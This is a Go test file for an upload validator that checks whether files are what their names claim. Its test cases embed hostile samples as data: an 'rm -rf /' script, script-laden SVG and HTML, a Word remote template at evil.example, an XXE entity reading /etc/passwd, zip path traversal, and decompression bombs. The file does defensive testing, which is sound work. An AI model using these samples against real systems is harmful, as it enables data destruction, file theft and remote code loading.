package filetype_test

import (
	"bytes"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"codeberg.org/go-pdf/fpdf"

	"thuocdo/data/filetype"
	"thuocdo/data/filetype/filetest"
	"thuocdo/scoring/assess"
)

func of(b []byte, name string) (string, error) {
	return filetype.Of(bytes.NewReader(b), int64(len(b)), name)
}

// honest are files of every type, some made by other programs' writers.
func honest(tb testing.TB) map[string][]byte {
	tb.Helper()
	var pdf, xlsx bytes.Buffer
	p := fpdf.New("P", "mm", "A4", "")
	p.AddPage()
	p.SetFont("Helvetica", "", 12)
	p.Cell(40, 10, "x")
	if err := p.Output(&pdf); err != nil {
		tb.Fatal(err)
	}
	x := excelize.NewFile()
	if err := x.Write(&xlsx); err != nil {
		tb.Fatal(err)
	}
	return map[string][]byte{
		"a.pdf": filetest.PDF("x"), "written.PDF": pdf.Bytes(), "spaced.pdf": append(filetest.PDF("x"), "\r\n\x00\n"...),
		"a.docx": filetest.DOCX("x"), "a.xlsx": filetest.XLSX(1), "written.xlsx": xlsx.Bytes(),
		"link.docx": filetest.DOCX("x", filetest.References("word/_rels/document.xml.rels", `<Relationship Id="a" Type="x/hyperlink" Target="https://example.vn" TargetMode="External"/>`+
			`<Relationship Id="b" Type="x/attachedTemplate" Target="file:///C:\Users\lan\cong-van.dotx" TargetMode="External"/>`)),
		"a.png": filetest.PNG(3, 2), "a.jpg": filetest.JPEG(30, 20), "a.jpeg": append(filetest.JPEG(3, 2), "SEFT notes of a camera"...), "a.webp": filetest.WebP(),
	}
}

var types = map[string]string{"pdf": filetype.PDF, "docx": filetype.DOCX, "xlsx": filetype.XLSX, "png": filetype.PNG, "jpg": filetype.JPEG, "jpeg": filetype.JPEG, "webp": filetype.WebP}

func TestHonestFilesAreWhatTheyAre(t *testing.T) {
	t.Parallel()
	for name, b := range honest(t) {
		want := types[strings.ToLower(name[strings.LastIndex(name, ".")+1:])]
		if got, err := of(b, name); got != want || err != nil {
			t.Errorf("%s: %q, %v", name, got, err)
		}
		var r *assess.Refused
		if _, err := of(b, "x.exe"); !errors.As(err, &r) || r.Reason != assess.FileLies {
			t.Errorf("%s under another name: %v", name, err)
		}
	}
}

// A file that is cut short anywhere, as by a lost connection, is never taken for a whole one; a JPEG file may lose what a camera
// wrote behind its end.
func TestFilesCutShortAreRefused(t *testing.T) {
	t.Parallel()
	for name, b := range honest(t) {
		end := len(b) - 1
		switch name {
		case "a.jpeg":
			end = len(filetest.JPEG(3, 2)) - 1
		case "spaced.pdf", "a.pdf", "written.PDF":
			end = bytes.LastIndex(b, []byte("%%EOF")) + 4
		}
		for n := end; n >= 0; n -= 1 + end/200 {
			if _, err := of(b[:n], name); !errors.As(err, new(*assess.Refused)) {
				t.Fatalf("%s cut to %d of %d bytes: %v", name, n, len(b), err)
			}
		}
	}
}

// wide is the head of a PNG file that says it is so large.
func wide(w, h uint32) []byte {
	b := filetest.PNG(1, 1)
	binary.BigEndian.PutUint32(b[16:], w)
	binary.BigEndian.PutUint32(b[20:], h)
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	return b
}

func TestFilesThatAreNotWhatTheySayAreRefused(t *testing.T) {
	t.Parallel()
	pdf, docx, png, jpg := filetest.PDF("x"), filetest.DOCX("x"), filetest.PNG(3, 2), filetest.JPEG(3, 2)
	join := func(list ...[]byte) []byte { return slices.Concat(list...) }
	noted := func(b []byte, comment []byte) []byte { // an archive with a comment at its end
		b = bytes.Clone(b)
		binary.LittleEndian.PutUint16(b[len(b)-2:], uint16(len(comment)))
		return append(b, comment...)
	}
	macro := filetest.Types("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "")
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
	many := make([]filetest.Part, 5000)
	for i := range many {
		many[i].Name = "word/" + string(rune('a'+i%26)) + strings.Repeat("x", i/26)
	}
	for name, c := range map[string]struct {
		name string
		b    []byte
		want assess.Reason
	}{
		"an empty file":                       {"a.pdf", nil, assess.FileEmpty},
		"a program":                           {"a.pdf", []byte("MZ\x90\x00" + strings.Repeat("\x00", 100)), assess.FileType},
		"a script":                            {"a.pdf", []byte("#!/bin/sh\nrm -rf /\n"), assess.FileType},
		"text":                                {"a.docx", []byte("chỉ là chữ"), assess.FileType},
		"an old document":                     {"a.docx", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...), assess.FileType},
		"a GIF picture":                       {"a.png", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), assess.FileType},
		"a page":                              {"a.pdf", []byte("<!DOCTYPE html><script>alert(1)</script>"), assess.FileActive},
		"a scripted drawing":                  {"a.svg", svg, assess.FileActive},
		"a scripted drawing as a picture":     {"a.png", svg, assess.FileActive},
		"a picture as a document":             {"a.pdf", png, assess.FileLies},
		"a document as a workbook":            {"a.xlsx", docx, assess.FileLies},
		"a document in front of a program":    {"a.pdf.exe", pdf, assess.FileLies},
		"no ending":                           {"pdf", pdf, assess.FileLies},
		"a page inside a PDF":                 {"a.pdf", bytes.Replace(pdf, []byte("%PDF-1.4\n"), []byte("%PDF-1.4\n<html><script>alert(1)</script>\n"), 1), assess.FileAmbiguous},
		"a page before a PDF":                 {"a.pdf", join([]byte("<html><script>alert(1)</script>"), pdf), assess.FileAmbiguous},
		"something before a PDF":              {"a.pdf", join([]byte("\n"), pdf), assess.FileDamaged},
		"a PDF and an archive":                {"a.pdf", join(pdf, docx), assess.FileAmbiguous},
		"a PDF in the comment of an archive":  {"a.pdf", join(pdf[:9], noted(docx, pdf)), assess.FileAmbiguous},
		"a PDF and a page":                    {"a.pdf", join(pdf, []byte("<script>")), assess.FileAmbiguous},
		"a PDF that leads nowhere":            {"a.pdf", bytes.Replace(pdf, []byte("xref\n0 6"), []byte("nope\n0 6"), 1), assess.FileDamaged},
		"a PDF that leads beyond its end":     {"a.pdf", []byte("%PDF-1.4\nstartxref\n999999\n%%EOF"), assess.FileDamaged},
		"a PDF of no version":                 {"a.pdf", bytes.Replace(pdf, []byte("-1.4"), []byte("-x.y"), 1), assess.FileDamaged},
		"something before an archive":         {"a.docx", join([]byte("MZ"), docx), assess.FileType},
		"an archive with a comment":           {"a.docx", noted(docx, []byte("xin chào")), assess.FileDamaged},
		"an archive":                          {"a.docx", filetest.Zip(filetest.Part{Name: "a.txt", Body: "x"}), assess.FileType},
		"an archive of an unknown kind":       {"a.docx", filetest.Zip(filetest.Types("a.xml", "application/x", ""), filetest.Part{Name: "a.xml"}), assess.FileType},
		"a document without its main part":    {"a.docx", filetest.Zip(filetest.Types("word/none.xml", filetype.DOCX+".main+xml", "")), assess.FileDamaged},
		"a text and a workbook":               {"a.docx", filetest.Zip(filetest.Types("a.xml", filetype.DOCX+".main+xml", `<Override PartName="/a.xml" ContentType="`+filetype.XLSX+`.main+xml"/>`), filetest.Part{Name: "a.xml"}), assess.FileAmbiguous},
		"macros":                              {"a.docx", filetest.DOCX("x", filetest.Part{Name: "word/vbaProject.bin", Body: "x"}), assess.FileMacro},
		"macros by type":                      {"a.docx", filetest.Zip(macro, filetest.Part{Name: "word/document.xml"}), assess.FileMacro},
		"macros by ending":                    {"a.docx", filetest.Zip(filetest.Part{Name: "[Content_Types].xml", Body: `<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`}), assess.FileMacro},
		"macros of old workbooks":             {"a.xlsx", filetest.XLSX(1, filetest.Part{Name: "xl/macrosheets/sheet1.xml", Body: "<x/>"}), assess.FileMacro},
		"controls":                            {"a.docx", filetest.DOCX("x", filetest.Part{Name: "word/activeX/activeX1.bin", Body: "x"}), assess.FileMacro},
		"a template of another machine":       {"a.docx", filetest.DOCX("x", filetest.References("word/_rels/settings.xml.rels", `<Relationship Id="a" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`)), assess.FileActive},
		"a share of another machine":          {"a.docx", filetest.DOCX("x", filetest.References("word/_rels/settings.xml.rels", `<Relationship Id="a" Type="x/attachedTemplate" Target="file:///\\evil\t.dotm" TargetMode="External"/>`)), assess.FileActive},
		"an external entity":                  {"a.docx", filetest.DOCX("x", filetest.Part{Name: "word/x.xml", Body: `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`}), assess.FileActive},
		"a bomb":                              {"a.docx", filetest.DOCX(strings.Repeat("x", 18<<20)), assess.FileBomb},
		"too many parts":                      {"a.docx", filetest.DOCX("x", many...), assess.FileBomb},
		"a list of types without end":         {"a.docx", filetest.Zip(filetest.Part{Name: "[Content_Types].xml", Body: "<Types>" + strings.Repeat(" ", 2<<20)}), assess.FileBomb},
		"a part that climbs out":              {"a.docx", filetest.DOCX("x", filetest.Part{Name: "../../etc/passwd", Body: "x"}), assess.FileDamaged},
		"a part that climbs out inside":       {"a.docx", filetest.DOCX("x", filetest.Part{Name: "word/../../x", Body: "x"}), assess.FileDamaged},
		"a part of the root":                  {"a.docx", filetest.DOCX("x", filetest.Part{Name: "/etc/passwd", Body: "x"}), assess.FileDamaged},
		"a part of a drive":                   {"a.docx", filetest.DOCX("x", filetest.Part{Name: `C:\x`, Body: "x"}), assess.FileDamaged},
		"two parts of one name":               {"a.docx", filetest.DOCX("x", filetest.Part{Name: "WORD/document.xml", Body: "x"}), assess.FileAmbiguous},
		"a part that is not what it was":      {"a.docx", bytes.Replace(filetest.Zip(filetest.Part{Name: "a", Body: ""}), []byte("PK\x05\x06"), []byte("PK\x05\x07"), 1), assess.FileDamaged},
		"a picture of too many points":        {"a.png", wide(20000, 20000), assess.FilePixels},
		"a picture as long as a road":         {"a.png", wide(40000, 1), assess.FilePixels},
		"a picture with a program":            {"a.png", join(png, []byte("MZ\x90")), assess.FileAmbiguous},
		"a picture with an archive":           {"a.jpg", join(jpg, docx), assess.FileAmbiguous},
		"a picture with a script in its head": {"a.jpg", join(jpg[:2], []byte("\xff\xfe\x00\x1b<script>alert(document)"), jpg[2:]), assess.FileAmbiguous},
		"a picture with a damaged chunk":      {"a.png", append(bytes.Clone(png[:len(png)-14]), append([]byte{png[len(png)-14] ^ 1}, png[len(png)-13:]...)...), assess.FileDamaged},
		"a WebP picture with more behind":     {"a.webp", join(filetest.WebP(), []byte("MZ")), assess.FileAmbiguous},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := of(c.b, c.name)
			var r *assess.Refused
			if !errors.As(err, &r) || r.Reason != c.want {
				t.Errorf("%v, want %s", err, c.want)
			}
		})
	}
}

// FuzzOf: whatever bytes come, nothing fails, and what is taken keeps its promises.
func FuzzOf(f *testing.F) {
	for name, b := range honest(f) {
		f.Add(b, name)
	}
	f.Add(slices.Concat(filetest.PDF("x"), filetest.DOCX("x")), "a.pdf")
	f.Fuzz(func(t *testing.T, b []byte, name string) {
		media, err := of(b, name)
		if err != nil {
			if !errors.As(err, new(*assess.Refused)) {
				t.Fatalf("neither taken nor refused: %v", err)
			}
			return
		}
		if !assess.Ends(name, media) {
			t.Fatalf("%q taken as %s", name, media)
		}
		if head := bytes.ToLower(b[:min(len(b), 1024)]); bytes.Contains(head, []byte("<script")) || bytes.Contains(head, []byte("<html")) {
			t.Fatalf("%s with markup", media)
		}
	})
}
